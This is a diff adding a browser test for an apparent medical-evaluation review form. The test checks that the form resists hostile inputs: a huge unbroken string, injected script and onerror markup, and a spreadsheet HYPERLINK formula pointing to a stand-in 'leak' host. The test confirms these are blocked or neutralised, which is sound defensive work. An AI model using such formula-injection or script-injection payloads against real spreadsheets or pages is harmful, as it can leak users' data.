@@ -10,7 +10,7 @@ from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 
 from medsafe_utils.judge.review import ReviewConfig, compare_to_experts, read_labels, review_sample
-from medsafe_utils.judge.review_form import export_review
+from medsafe_utils.judge.review_form import MAX_SHOWN, export_review
 
 pytestmark = pytest.mark.slow
 
@@ -136,3 +136,72 @@ def test_rater_scores_reloads_saves_and_the_labels_import(
         assert by_judge.loc[judge, "exact_agreement"] == pytest.approx(
             sum(e == j for e, j in pairs) / len(pairs)
         )
+
+
+def test_hostile_texts_stay_text_and_huge_ones_do_not_freeze_the_form(
+    tmp_path, browser, browser_downloads, review_judgments
+):
+    """A megabyte without white space, a spreadsheet formula and markup, in a real browser: the
+    item opens at once with its text cut and the rest counted, the page runs no script but its
+    own (Content-Security-Policy), and the saved labels carry no formula a spreadsheet would run."""
+    huge = "A" * 1_000_000
+    formula = '=HYPERLINK("http://x.example/?leak","click")'
+    judgments = review_judgments.copy()
+    where = judgments["model"].eq("model-a") & judgments["harm_set"].eq("medsafety_eval")
+    judgments.loc[where & judgments["item_id"].eq("medsafety_eval-0"), "response"] = huge
+    judgments.loc[where & judgments["item_id"].eq("medsafety_eval-1"), "response"] = formula
+    sample = review_sample(judgments, ReviewConfig(n=40, seed=0))
+    export_review(sample, tmp_path / "expert_review")
+    browser.get((tmp_path / "expert_review" / "review_form.html").as_uri())
+    assert _text(browser, "position") == "Item 1 of 40"
+
+    # Only the page's own script runs: one injected into the page (as markup in a text that
+    # escaped escaping would be) is refused by the policy.
+    policy = browser.find_element(By.CSS_SELECTOR, "meta[http-equiv=Content-Security-Policy]")
+    assert policy.get_attribute("content").startswith("default-src 'none'; style-src 'sha256-")
+    browser.execute_script(
+        "const s = document.createElement('script'); s.textContent = 'window.injected = 1';"
+        "document.body.append(s);"
+        "const i = document.createElement('img'); i.src = 'x';"
+        "i.setAttribute('onerror', 'window.injected = 2'); document.body.append(i);"
+    )
+    time.sleep(0.5)
+    assert browser.execute_script("return window.injected === undefined")
+
+    # The megabyte: cut, with the rest counted, and laid out at once (before the cut, and with
+    # the system-ui font, 20,000 characters took 4.7 s in Debian's Chromium and 300,000 hung it).
+    position = int(sample.loc[sample["response"] == huge, "position"].iloc[0])
+    milliseconds = browser.execute_script(
+        "const t0 = performance.now(); move(arguments[0] - 1); void document.body.offsetHeight;"
+        "return performance.now() - t0;",
+        position,
+    )
+    assert _text(browser, "position") == f"Item {position} of 40"
+    shown = browser.execute_script("return document.getElementById('response').textContent")
+    assert shown == "A" * MAX_SHOWN + f"\n[{1_000_000 - MAX_SHOWN:,} more characters]"
+    assert "more characters]" in _text(browser, "response")
+    width = browser.execute_script("return document.getElementById('response').scrollWidth")
+    assert width <= browser.execute_script("return document.documentElement.clientWidth")
+    assert milliseconds < 1000, f"the item took {milliseconds:.0f} ms to lay out"
+
+    # Save: the formula is text in the CSV (as in labels_template.csv), and it imports.
+    browser.find_element(By.ID, "rater").send_keys("dr_b")
+    browser.find_element(By.TAG_NAME, "body").send_keys("3")
+    browser.find_element(By.ID, "comment").send_keys("-2 doses, @noon")
+    browser.find_element(By.ID, "save").click()
+    saved = _wait_for_file(browser_downloads, "labels_dr_b.csv")
+    table = pd.read_csv(saved, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    template = pd.read_csv(
+        tmp_path / "expert_review" / "labels_template.csv",
+        dtype=str,
+        keep_default_na=False,
+        encoding="utf-8-sig",
+    )
+    assert table.drop(columns=["expert_score", "comment"]).equals(
+        template.drop(columns=["expert_score", "comment"])
+    )
+    cells = table.drop(columns=["expert_score"]).to_numpy().ravel().tolist()
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + formula in cells and "'-2 doses, @noon" in cells
+    labels = read_labels([saved], sample)
+    assert labels["expert_score"].tolist() == [3]
